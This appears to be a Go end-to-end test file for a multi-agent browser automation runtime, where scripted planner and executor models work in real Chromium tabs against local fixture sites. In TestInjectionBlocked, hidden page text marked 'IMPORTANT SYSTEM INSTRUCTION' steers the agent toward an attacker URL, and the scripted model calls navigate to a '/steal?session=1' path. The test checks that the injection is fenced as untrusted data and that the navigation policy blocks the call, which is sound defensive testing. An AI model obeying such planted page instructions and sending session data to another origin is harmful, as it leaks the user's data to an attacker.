@@ -1,0 +1,769 @@
+package app
+
+import (
+	"context"
+	"errors"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	openai "github.com/sashabaranov/go-openai"
+
+	"vroom/agents"
+	"vroom/browser"
+	"vroom/internal/modeltest"
+)
+
+// The tests here are issue 4's must-shows, end to end: the runtime in
+// agents drives real Chromium tabs through the Tabs adapter, against
+// fixture sites with their own state, with the scripted model as the only
+// stand-in. Each asserts what the site ended up with.
+
+var quoteRE = regexp.MustCompile(`Your quote is (\d+)`)
+
+// quoteExecutor clicks "Get quote", reads the page extra times (to be
+// slower), reads the quote and reports it. Every reply takes delay, as a
+// real model's does.
+func quoteExecutor(match modeltest.Matcher, delay time.Duration, extraReads int) modeltest.Step {
+	return modeltest.Step{Times: -1, Match: match, Func: func(r *modeltest.Request) modeltest.Reply {
+		text := r.Text()
+		n := toolResults(r)
+		var rep modeltest.Reply
+		switch {
+		case n == 0:
+			rep = call("click", "ref", ref(text, "button", "Get quote"))
+		case n < 1+extraReads || !quoteRE.MatchString(lastText(r)):
+			rep = call("read_page")
+		default:
+			rep = done("quote "+quoteRE.FindStringSubmatch(lastText(r))[1], true)
+		}
+		return modeltest.Slow(delay, rep)
+	}}
+}
+
+// TestParallelExecutors (must-show 1): three sub-tasks on three sites run
+// at once; their steps interleave in the run log and the run takes less
+// than 1.5 times its slowest executor alone.
+func TestParallelExecutors(t *testing.T) {
+	t.Parallel()
+	const delay = 250 * time.Millisecond
+	sites := []*site{newSite(t), newSite(t), newSite(t)}
+	names := []string{"North", "East", "South"}
+	task := func(i int) string { return "get a quote from the " + names[i] + " desk" }
+	script := func(h *harness, which []int) {
+		var calls []modeltest.ToolCall
+		for _, i := range which {
+			calls = append(calls, modeltest.CallOf("spawn", map[string]any{"task": task(i), "url": sites[i].URL + "/quote.html?name=" + names[i]}))
+		}
+		h.srv.Script("planner",
+			modeltest.Step{Match: modeltest.ToolResults(0), Reply: modeltest.Calls(calls...)},
+			plannerScript())
+		for _, i := range which {
+			extra := 1
+			if i == 2 {
+				extra = 3 // South is the slowest
+			}
+			h.srv.Script("executor", quoteExecutor(modeltest.SystemContains(task(i)), delay, extra))
+		}
+	}
+
+	// The slowest executor alone.
+	alone := newHarness(t, nil)
+	prewarm(t, alone, 1)
+	script(alone, []int{2})
+	res := alone.execute(t, "get a quote from South")
+	if !res.Success || len(res.Procs) != 1 {
+		t.Fatalf("alone: %+v", res)
+	}
+	slowest := res.Procs[0].Ended.Sub(res.Procs[0].Started)
+
+	// All three at once.
+	h := newHarness(t, nil)
+	prewarm(t, h, 3)
+	script(h, []int{0, 1, 2})
+	start := time.Now()
+	res = h.execute(t, "get quotes from North, East and South")
+	took := time.Since(start)
+	if !res.Success || len(res.Procs) != 3 {
+		t.Fatalf("parallel: %+v", res)
+	}
+	for i, s := range sites {
+		s.state(func(s *site) {
+			want := 1
+			if i == 2 {
+				want = 2 // once alone, once with the others
+			}
+			if s.quotes != want {
+				t.Errorf("site %s served %d quotes, want %d", names[i], s.quotes, want)
+			}
+		})
+	}
+	if testing.Verbose() {
+		var sb strings.Builder
+		agents.Replay(&sb, h.log.records(t))
+		t.Log(sb.String())
+	}
+	if took >= slowest*3/2 {
+		t.Fatalf("the parallel run took %v, the slowest executor alone %v: not < 1.5x", took, slowest)
+	}
+	t.Logf("parallel run %v, slowest executor alone %v (x%.2f)", took, slowest, float64(took)/float64(slowest))
+
+	// Interleaving: the executors' steps are not one block per executor.
+	var order []string
+	for _, r := range h.log.records(t) {
+		if r.Event == "tool" && (len(order) == 0 || order[len(order)-1] != r.Agent) {
+			order = append(order, r.Agent)
+		}
+	}
+	if len(order) <= 3 {
+		t.Fatalf("steps ran one executor after another: %v", order)
+	}
+}
+
+// TestWaitAny (must-show 2): the planner acts on the first executor to
+// finish while the other still runs.
+func TestWaitAny(t *testing.T) {
+	t.Parallel()
+	fast, slow, third := newSite(t), newSite(t), newSite(t)
+	h := newHarness(t, nil)
+	var mu sync.Mutex
+	var slowRunningAtAct bool
+	h.srv.Script("planner",
+		modeltest.Step{Match: modeltest.ToolResults(0), Reply: modeltest.Calls(
+			modeltest.CallOf("spawn", map[string]any{"task": "fast quote", "url": fast.URL + "/quote.html"}),
+			modeltest.CallOf("spawn", map[string]any{"task": "slow quote", "url": slow.URL + "/quote.html"}))},
+		modeltest.Step{Match: modeltest.ToolResults(2), Reply: call("wait", "mode", "any")},
+		// The first finished: act on it (spawn a follow-up) while the slow
+		// one is still running.
+		modeltest.Step{Match: modeltest.ToolResults(3), Func: func(r *modeltest.Request) modeltest.Reply {
+			last := lastText(r)
+			mu.Lock()
+			slowRunningAtAct = strings.Contains(last, `"running":[2]`) && strings.Contains(last, `"summary":"quote`)
+			mu.Unlock()
+			return call("spawn", "task", "follow-up quote", "url", third.URL+"/quote.html")
+		}},
+		plannerScript(),
+	)
+	h.srv.Script("executor",
+		quoteExecutor(modeltest.SystemContains("Your task: fast quote"), 0, 0),
+		quoteExecutor(modeltest.SystemContains("Your task: follow-up quote"), 0, 0),
+		// The slow one keeps reading until the follow-up's quote exists.
+		modeltest.Step{Times: -1, Match: modeltest.SystemContains("Your task: slow quote"), Func: func(r *modeltest.Request) modeltest.Reply {
+			n := toolResults(r)
+			var q int
+			third.state(func(s *site) { q = s.quotes })
+			switch {
+			case n == 0:
+				return call("click", "ref", ref(r.Text(), "button", "Get quote"))
+			case q == 0 || !quoteRE.MatchString(lastText(r)):
+				return modeltest.Slow(50*time.Millisecond, call("read_page"))
+			}
+			return done("slow quote "+quoteRE.FindStringSubmatch(lastText(r))[1], true)
+		}},
+	)
+	res := h.execute(t, "three quotes")
+	if !res.Success || len(res.Procs) != 3 {
+		t.Fatalf("%+v", res)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if !slowRunningAtAct {
+		t.Fatal("the planner's wait any did not return the fast executor while the slow one ran")
+	}
+	for _, s := range []*site{fast, slow, third} {
+		s.state(func(s *site) {
+			if s.quotes != 1 {
+				t.Errorf("a site served %d quotes", s.quotes)
+			}
+		})
+	}
+	// The follow-up was spawned before the slow executor finished.
+	var slowEnd, followStart time.Time
+	for _, p := range res.Procs {
+		switch p.Task {
+		case "slow quote":
+			slowEnd = p.Ended
+		case "follow-up quote":
+			followStart = p.Started
+		}
+	}
+	if !followStart.Before(slowEnd) {
+		t.Fatalf("follow-up started %v, slow ended %v", followStart, slowEnd)
+	}
+}
+
+// openUserTab opens a tab the way the person would, outside any run.
+func openUserTab(t *testing.T, url string) *browser.Tab {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	tab, err := testBrowser.Open(ctx, url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+		defer cancel()
+		tab.Close(ctx)
+	})
+	return tab
+}
+
+// TestAttachLoggedInTab (must-show 3): a tab already signed in to a site
+// is given to spawn; the executor works in it, opens no tab, and keeps the
+// session: the note is saved under the signed-in user.
+func TestAttachLoggedInTab(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	h := newHarness(t, nil)
+	tab := openUserTab(t, s.URL+"/login")
+	h.srv.Script("planner", plannerScript(map[string]any{"task": "save the note 'buy milk' in my account", "tab": tab.ID()}))
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		text, c := r.Text(), calls(r)
+		switch {
+		case !strings.Contains(text, "Signed in as ada"):
+			return call("read_page") // the page's fetch may not have landed yet
+		case !strings.Contains(c, `"buy milk"`):
+			return call("type", "ref", ref(text, "textbox", "Note"), "text", "buy milk")
+		case !strings.Contains(c, "click"):
+			return call("click", "ref", ref(text, "button", "Save note"))
+		case !strings.Contains(text, "Note saved"):
+			return call("read_page")
+		}
+		return done("saved the note as ada", true)
+	}})
+	res := h.execute(t, "save a note", tab.ID())
+	if !res.Success || res.Procs[0].Tab != tab.ID() {
+		t.Fatalf("%+v", res)
+	}
+	if n := len(h.tabs.Opened()); n != 0 {
+		t.Fatalf("the run opened %d tabs", n)
+	}
+	s.state(func(s *site) {
+		if len(s.notes["ada"]) != 1 || s.notes["ada"][0] != "buy milk" || len(s.notes) != 1 {
+			t.Fatalf("notes %v: the session was lost or the note not saved", s.notes)
+		}
+	})
+	// The lease ended with the executor: the person can use the tab again.
+	if _, err := tab.Observe(context.Background(), browser.ObserveOptions{}); err != nil {
+		t.Fatalf("tab still leased after the run: %v", err)
+	}
+}
+
+// TestAttachLeasedTab: a tab leased to someone else cannot be spawned on;
+// the planner gets a tool result naming the holder.
+func TestAttachLeasedTab(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	h := newHarness(t, nil)
+	tab := openUserTab(t, s.URL+"/quote.html")
+	l, err := tab.Lease(context.Background(), "agent 7 of another run")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Release()
+	h.srv.Script("planner",
+		modeltest.Step{Match: modeltest.ToolResults(0), Reply: call("spawn", "task", "get a quote", "tab", tab.ID())},
+		modeltest.Step{Match: modeltest.ToolResults(1), Func: func(r *modeltest.Request) modeltest.Reply {
+			return done(lastText(r), false)
+		}})
+	res := h.execute(t, "quote")
+	if !strings.Contains(res.Summary, "spawn failed") || !strings.Contains(res.Summary, "leased by agent 7 of another run") {
+		t.Fatalf("the planner was told %q", res.Summary)
+	}
+	s.state(func(s *site) {
+		if s.quotes != 0 {
+			t.Fatal("something acted in the leased tab")
+		}
+	})
+}
+
+// TestRetryOnSameTab (must-show 4): the first executor fails (the button
+// needs the terms accepted); the planner retries on the same tab and the
+// second executor succeeds there.
+func TestRetryOnSameTab(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	h := newHarness(t, nil)
+	var tabID string
+	h.srv.Script("planner",
+		modeltest.Step{Match: modeltest.ToolResults(0), Reply: call("spawn", "task", "get a quote", "url", s.URL+"/quote.html?terms=1")},
+		modeltest.Step{Match: modeltest.ToolResults(1), Func: func(r *modeltest.Request) modeltest.Reply {
+			m := regexp.MustCompile(`"tab":"([^"]+)"`).FindStringSubmatch(lastText(r))
+			tabID = m[1]
+			return call("wait", "mode", "all")
+		}},
+		modeltest.Step{Match: modeltest.ToolResults(2), Func: func(r *modeltest.Request) modeltest.Reply {
+			if !strings.Contains(lastText(r), `"success":false`) {
+				return done("expected a failure: "+lastText(r), false)
+			}
+			return call("spawn", "task", "retry: accept the terms, then get a quote", "tab", tabID)
+		}},
+		modeltest.Step{Match: modeltest.ToolResults(3), Reply: call("wait", "mode", "all")},
+		modeltest.Step{Match: modeltest.ToolResults(4), Func: func(r *modeltest.Request) modeltest.Reply {
+			return done("retried: "+summaries(r), strings.Contains(lastText(r), `"success":true`))
+		}},
+	)
+	h.srv.Script("executor",
+		modeltest.Step{Times: -1, Match: modeltest.SystemContains("Your task: get a quote"), Func: func(r *modeltest.Request) modeltest.Reply {
+			switch toolResults(r) {
+			case 0:
+				return call("click", "ref", ref(r.Text(), "button", "Get quote"))
+			case 1:
+				return call("read_page")
+			}
+			return done("could not get a quote: "+tail(lastText(r), 200), false)
+		}},
+		modeltest.Step{Times: -1, Match: modeltest.SystemContains("Your task: retry"), Func: func(r *modeltest.Request) modeltest.Reply {
+			text := r.Text()
+			switch toolResults(r) {
+			case 0:
+				return call("click", "ref", ref(text, "checkbox", "terms"))
+			case 1:
+				return call("click", "ref", ref(text, "button", "Get quote"))
+			case 2:
+				return call("read_page")
+			}
+			if m := quoteRE.FindStringSubmatch(lastText(r)); m != nil {
+				return done("quote "+m[1], true)
+			}
+			return done("no quote", false)
+		}},
+	)
+	res := h.execute(t, "get a quote")
+	if !res.Success || len(res.Procs) != 2 {
+		t.Fatalf("%+v", res)
+	}
+	if res.Procs[0].Tab != res.Procs[1].Tab || res.Procs[0].Success || !res.Procs[1].Success {
+		t.Fatalf("procs %+v", res.Procs)
+	}
+	if n := len(h.tabs.Opened()); n != 1 {
+		t.Fatalf("opened %d tabs, want 1", n)
+	}
+	s.state(func(s *site) {
+		if s.quotes != 1 {
+			t.Fatalf("%d quotes served", s.quotes)
+		}
+	})
+}
+
+// TestUniqueSkills (must-show 5): two executors add skills to one profile;
+// each is told what the other said through its tool results and picks
+// another; the site ends with no duplicates.
+func TestUniqueSkills(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	h := newHarness(t, nil)
+	const pick = "add one skill from [Python, Go, Kubernetes] to the profile that no other agent added, and say which"
+	h.srv.Script("planner", plannerScript(
+		map[string]any{"task": pick, "url": s.URL + "/profile.html"},
+		map[string]any{"task": pick + "; listen to the others first", "url": s.URL + "/profile.html"}))
+	heardBeforeTyping := false
+	var mu sync.Mutex
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		text := r.Text()
+		last := lastText(r)
+		listener := strings.Contains(modeltest.MessageText(r.Chat.Messages[0]), "listen to the others first")
+		c := calls(r)
+		typed := regexp.MustCompile(`^type .*"text":"(Python|Go|Kubernetes)"`).FindStringSubmatch(c)
+		if m := regexp.MustCompile(`(?m)^type .*"text":"(Python|Go|Kubernetes)"`).FindStringSubmatch(c); m != nil {
+			typed = m
+		}
+		switch {
+		case strings.HasPrefix(last, "said"):
+			return done("added", true)
+		case typed == nil && listener && !strings.Contains(text, ": I added"):
+			return modeltest.Slow(150*time.Millisecond, call("read_page")) // working, listening
+		case typed == nil:
+			for _, skill := range []string{"Python", "Go", "Kubernetes"} {
+				if !strings.Contains(text, "I added "+skill) {
+					if listener {
+						mu.Lock()
+						heardBeforeTyping = strings.Contains(text, "agent 1: I added")
+						mu.Unlock()
+					}
+					return call("type", "ref", ref(text, "textbox", "Skill"), "text", skill)
+				}
+			}
+		case !strings.Contains(c, "click"):
+			return call("click", "ref", ref(text, "button", "Add skill"))
+		case !strings.Contains(text, "Skill added: "+typed[1]):
+			return call("read_page")
+		default:
+			return modeltest.Slow(10*time.Millisecond, call("speak", "text", "I added "+typed[1]))
+		}
+		return done("nothing left to add", false)
+	}})
+	res := h.execute(t, "add two unique skills")
+	if !res.Success {
+		reqs := h.srv.Requests("executor")
+		t.Log(tail(reqs[len(reqs)-1].Text(), 3000))
+		t.Fatalf("%+v", res)
+	}
+	mu.Lock()
+	if !heardBeforeTyping {
+		t.Error("the second executor chose without hearing the first")
+	}
+	mu.Unlock()
+	s.state(func(s *site) {
+		seen := map[string]bool{}
+		for _, k := range s.skills {
+			if seen[k] {
+				t.Fatalf("duplicate skill %q in %v", k, s.skills)
+			}
+			seen[k] = true
+		}
+		if len(s.skills) != 2 {
+			t.Fatalf("skills %v", s.skills)
+		}
+	})
+}
+
+// TestCanvasSpreadsheet (must-show 6): a canvas spreadsheet filled through
+// screenshot and click_at, every value in the right cell.
+func TestCanvasSpreadsheet(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	h := newHarness(t, nil)
+	want := map[string]string{"B2": "42", "C3": "17", "A5": "total"}
+	order := []string{"B2", "C3", "A5"}
+	// The sheet's geometry: row header 40 px, columns 100 px, header and
+	// rows 30 px. A vision model reads this off the screenshot.
+	center := func(cell string) (float64, float64) {
+		c := float64(cell[0] - 'A')
+		r := float64(cell[1] - '0')
+		return 40 + c*100 + 50, 30 + (r-1)*30 + 15
+	}
+	sawImage := false
+	h.srv.Script("planner", plannerScript(map[string]any{"task": "fill B2=42, C3=17, A5=total", "url": s.URL + "/sheet.html"}))
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		n := toolResults(r)
+		// Per cell: screenshot, click_at, type_focused, press Enter.
+		i, phase := n/4, n%4
+		if i == len(order) {
+			return done("filled", true)
+		}
+		switch phase {
+		case 0:
+			return call("screenshot")
+		case 1:
+			last, _ := r.LastMessage()
+			for _, p := range last.MultiContent {
+				if p.Type == openai.ChatMessagePartTypeImageURL && strings.HasPrefix(p.ImageURL.URL, "data:image/png;base64,") {
+					sawImage = true
+				}
+			}
+			x, y := center(order[i])
+			return call("click_at", "x", x, "y", y)
+		case 2:
+			return call("type_focused", "text", want[order[i]])
+		}
+		return call("press", "key", "Enter")
+	}})
+	res := h.execute(t, "fill the sheet")
+	if !res.Success {
+		t.Fatalf("%+v", res)
+	}
+	if !sawImage {
+		t.Error("no screenshot reached the model as an image")
+	}
+	waitFor(t, 5*time.Second, "the last cell to reach the server", func() bool {
+		var n int
+		s.state(func(s *site) { n = len(s.cells) })
+		return n == len(want)
+	})
+	s.state(func(s *site) {
+		for k, v := range want {
+			if s.cells[k] != v {
+				t.Errorf("cell %s = %q, want %q (all: %v)", k, s.cells[k], v, s.cells)
+			}
+		}
+	})
+}
+
+// TestPlaceOrderNeedsConfirmation (must-show 7): "Place order" waits for
+// the person; denied, the server never receives the order and the run says
+// so; allowed once, it does.
+func TestPlaceOrderNeedsConfirmation(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		name     string
+		decision agents.Decision
+		orders   int
+	}{{"deny", agents.Deny, 0}, {"allow-once", agents.AllowOnce, 1}} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			s := newSite(t)
+			var asked []agents.Confirmation
+			var mu sync.Mutex
+			h := newHarness(t, func(c *agents.Config) {
+				c.Confirm = agents.ConfirmFunc(func(ctx context.Context, cf agents.Confirmation) (agents.Decision, error) {
+					mu.Lock()
+					defer mu.Unlock()
+					asked = append(asked, cf)
+					return tc.decision, nil
+				})
+			})
+			h.srv.Script("planner", plannerScript(map[string]any{"task": "buy the mug in the cart", "url": s.URL + "/shop.html"}))
+			h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+				last := lastText(r)
+				switch {
+				case toolResults(r) == 0:
+					return call("click", "ref", ref(r.Text(), "button", "Place order"))
+				case strings.HasPrefix(last, "refused"):
+					return done("I did not place the order: the user refused it", false)
+				}
+				return done("order placed", true)
+			}})
+			res := h.execute(t, "buy the mug")
+			mu.Lock()
+			defer mu.Unlock()
+			if len(asked) != 1 || !regexp.MustCompile(`^click e\d+$`).MatchString(asked[0].Action) || asked[0].Target != `button "Place order"` {
+				t.Fatalf("confirmations %+v", asked)
+			}
+			s.state(func(s *site) {
+				if s.orders != tc.orders {
+					t.Fatalf("the server received %d orders, want %d", s.orders, tc.orders)
+				}
+			})
+			var answered string
+			for _, r := range h.log.records(t) {
+				if r.Event == "confirm_answered" {
+					answered = r.Text
+				}
+			}
+			if tc.decision == agents.Deny {
+				if res.Success || !strings.Contains(res.Summary, "did not place the order") || !strings.Contains(answered, "denied by the user") {
+					t.Fatalf("result %+v, logged answer %q", res, answered)
+				}
+			} else if !res.Success || answered != "allowed" {
+				t.Fatalf("result %+v, logged answer %q", res, answered)
+			}
+		})
+	}
+}
+
+// TestInjectionBlocked (must-show 8): hidden page text tells the agent to
+// open an attacker URL. The text reaches the model only inside the fenced,
+// untrusted page data; when the scripted model obeys, the navigation
+// policy blocks the attacker's origin, the attacker gets nothing, and the
+// run log says why.
+func TestInjectionBlocked(t *testing.T) {
+	t.Parallel()
+	s, attacker := newSite(t), newSite(t)
+	// Another origin: same host, another port.
+	s.attacker = attacker.URL
+	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
+	h.srv.Script("planner", plannerScript(map[string]any{"task": "mark the release notes as read", "url": s.URL + "/injection.html"}))
+	var firstPrompt string
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		switch toolResults(r) {
+		case 0:
+			firstPrompt = lastText(r)
+			return call("navigate", "url", attacker.URL+"/steal?session=1") // obeys the page
+		}
+		return done("I was refused: "+tail(lastText(r), 200), false)
+	}})
+	res := h.execute(t, "mark as read")
+	inj := strings.Index(firstPrompt, "IMPORTANT SYSTEM INSTRUCTION")
+	open := strings.LastIndex(firstPrompt[:max(inj, 0)], `<page_data source="`+s.URL+`/injection.html" trust="untrusted">`)
+	closeAt := strings.Index(firstPrompt[max(inj, 0):], "</page_data>")
+	if inj < 0 || open < 0 || closeAt < 0 {
+		t.Fatalf("the injection is not inside the fenced page data:\n%s", firstPrompt)
+	}
+	attacker.state(func(a *site) {
+		if a.hits != 0 {
+			t.Fatalf("the attacker got %d requests", a.hits)
+		}
+	})
+	var why string
+	for _, r := range h.log.records(t) {
+		if r.Event == "policy_denied" {
+			why = r.Error
+		}
+	}
+	if !strings.Contains(why, "leaves the run's starting origin") || !strings.Contains(why, attacker.URL) {
+		t.Fatalf("run log's policy_denied: %q", why)
+	}
+	if res.Procs[0].Success {
+		t.Fatalf("%+v", res.Procs[0])
+	}
+}
+
+// TestModelFaults (must-show 9): the model misbehaving in the ways real
+// ones do, against a real page.
+func TestModelFaults(t *testing.T) {
+	t.Parallel()
+	t.Run("rate-limited", func(t *testing.T) {
+		t.Parallel()
+		h := newHarness(t, nil)
+		h.srv.Then("planner", modeltest.RateLimited(time.Second), done("fine", true))
+		res := h.execute(t, "x")
+		reqs := h.srv.Requests("planner")
+		if !res.Success || len(reqs) != 2 {
+			t.Fatalf("%+v, %d requests", res, len(reqs))
+		}
+		if gap := reqs[1].At.Sub(reqs[0].At); gap < time.Second {
+			t.Fatalf("retried after %v, before Retry-After's 1s", gap)
+		}
+	})
+	t.Run("server-errors", func(t *testing.T) {
+		t.Parallel()
+		h := newHarness(t, nil)
+		// Three 500s with two retries is a clear failure, fast.
+		srv := h.srv
+		run := agents.NewRun(context.Background(), agents.Config{
+			Model: agents.NewModel(agents.ModelConfig{BaseURL: srv.URL, Models: map[agents.Role]string{agents.RolePlanner: "planner", agents.RoleExecutor: "executor"},
+				MaxRetries: 2, Backoff: time.Millisecond}),
+			Tabs: h.tabs,
+		})
+		srv.Then("planner", modeltest.ServerError(), modeltest.ServerError(), modeltest.ServerError())
+		start := time.Now()
+		res, err := run.Execute(context.Background(), "anything")
+		if !errors.Is(err, agents.ErrModel) || res.Success || !strings.Contains(res.Summary, "500") || time.Since(start) > 5*time.Second {
+			t.Fatalf("err %v, result %+v after %v", err, res, time.Since(start))
+		}
+		if n := len(srv.Requests("planner")); n != 3 {
+			t.Fatalf("%d attempts", n)
+		}
+	})
+	t.Run("malformed-then-repaired", func(t *testing.T) {
+		t.Parallel()
+		s := newSite(t)
+		h := newHarness(t, nil)
+		h.srv.Script("planner", plannerScript(map[string]any{"task": "get a quote", "url": s.URL + "/quote.html"}))
+		h.srv.Script("executor",
+			modeltest.Step{Match: modeltest.ToolResults(0), Reply: modeltest.MalformedArgs("click", `{"ref": "e`)},
+			modeltest.Step{Match: modeltest.ToolResults(1), Func: func(r *modeltest.Request) modeltest.Reply {
+				if !strings.Contains(lastText(r), "cut off") {
+					return done("not told what was wrong: "+lastText(r), false)
+				}
+				return call("click", "ref", ref(r.Text(), "button", "Get quote"))
+			}},
+			modeltest.Step{Match: modeltest.ToolResults(2), Reply: done("clicked", true)},
+		)
+		res := h.execute(t, "quote")
+		if !res.Success {
+			t.Fatalf("%+v", res)
+		}
+		waitFor(t, 5*time.Second, "the quote request", func() bool {
+			var n int
+			s.state(func(s *site) { n = s.quotes })
+			return n == 1
+		})
+	})
+	t.Run("prose-nudged", func(t *testing.T) {
+		t.Parallel()
+		s := newSite(t)
+		h := newHarness(t, nil)
+		h.srv.Script("planner", plannerScript(map[string]any{"task": "get a quote", "url": s.URL + "/quote.html"}))
+		h.srv.Script("executor",
+			modeltest.Step{Times: 2, Match: modeltest.ToolResults(0), Func: func(r *modeltest.Request) modeltest.Reply {
+				if strings.Contains(lastText(r), "only tool calls") {
+					return call("click", "ref", ref(r.Text(), "button", "Get quote"))
+				}
+				return modeltest.Text("Sure! I will click the Get quote button now.")
+			}},
+			modeltest.Step{Match: modeltest.ToolResults(1), Reply: done("clicked", true)},
+		)
+		res := h.execute(t, "quote")
+		if !res.Success {
+			t.Fatalf("%+v", res)
+		}
+		if n := len(h.srv.Requests("executor")); n != 3 {
+			t.Fatalf("%d executor requests, want 3 (prose, nudged call, done)", n)
+		}
+		s.state(func(s *site) {
+			if s.quotes != 1 {
+				t.Fatalf("%d quotes", s.quotes)
+			}
+		})
+	})
+}
+
+// TestUserCorrection (must-show 10): a correction sent while both
+// executors' model calls are in flight reaches each executor's next
+// prompt and the planner's, marked as from the user; the executors follow
+// it on the page and the planner spawns nothing more.
+func TestUserCorrection(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	h := newHarness(t, nil)
+	const correction = "no, add Rust instead"
+	h.srv.Script("planner", plannerScript(
+		map[string]any{"task": "add the skill Go", "url": s.URL + "/profile.html"},
+		map[string]any{"task": "open the profile and wait for instructions", "url": s.URL + "/profile.html"}))
+	var mu sync.Mutex
+	arrived := 0
+	sent := false
+	h.srv.Script("executor",
+		// After the correction: follow it (the first executor) or finish.
+		modeltest.Step{Times: -1, Match: modeltest.MessageContains("", "PRIORITY INSTRUCTION FROM THE USER"), Func: func(r *modeltest.Request) modeltest.Reply {
+			text, c := r.Text(), calls(r)
+			if !strings.Contains(modeltest.MessageText(r.Chat.Messages[0]), "add the skill Go") {
+				return done("heard the correction; nothing for me", true)
+			}
+			switch {
+			case !strings.Contains(c, `"text":"Rust"`):
+				return call("type", "ref", ref(text, "textbox", "Skill"), "text", "Rust")
+			case !strings.Contains(c, "click"):
+				return call("click", "ref", ref(text, "button", "Add skill"))
+			}
+			return done("added Rust as the user asked", true)
+		}},
+		// Before: the second of the two first calls brings the correction;
+		// both calls are held, so the correction arrives while they are in
+		// flight.
+		modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+			mu.Lock()
+			arrived++
+			if arrived == 2 && !sent {
+				sent = true
+				mu.Unlock()
+				h.Room().UserSays(correction)
+			} else {
+				mu.Unlock()
+			}
+			return modeltest.Slow(time.Minute, call("type", "ref", ref(r.Text(), "textbox", "Skill"), "text", "Go"))
+		}},
+	)
+	res := h.execute(t, "add Go")
+	if !res.Success || len(res.Procs) != 2 {
+		t.Fatalf("%+v", res)
+	}
+	for _, agent := range []string{"agent 1", "agent 2"} {
+		got := false
+		for _, r := range h.srv.Requests("executor") {
+			if strings.Contains(modeltest.MessageText(r.Chat.Messages[0]), "You are "+agent+",") &&
+				strings.Contains(lastText(r), "<user_correction priority=\"high\">\nPRIORITY INSTRUCTION FROM THE USER") && strings.Contains(lastText(r), correction) {
+				got = true
+			}
+		}
+		if !got {
+			t.Errorf("%s's next prompt lacks the correction", agent)
+		}
+	}
+	heard := false
+	for _, r := range h.srv.Requests("planner") {
+		heard = heard || strings.Contains(r.Text(), "PRIORITY INSTRUCTION FROM THE USER (it overrides your task where they conflict): "+correction)
+	}
+	if !heard {
+		t.Error("the planner never got the correction")
+	}
+	spawns := 0
+	for _, r := range h.log.records(t) {
+		if r.Event == "spawn" {
+			spawns++
+		}
+	}
+	if spawns != 2 {
+		t.Errorf("%d spawns", spawns)
+	}
+	s.state(func(s *site) {
+		if len(s.skills) != 1 || s.skills[0] != "Rust" {
+			t.Fatalf("skills %v, want [Rust]", s.skills)
+		}
+	})
+}
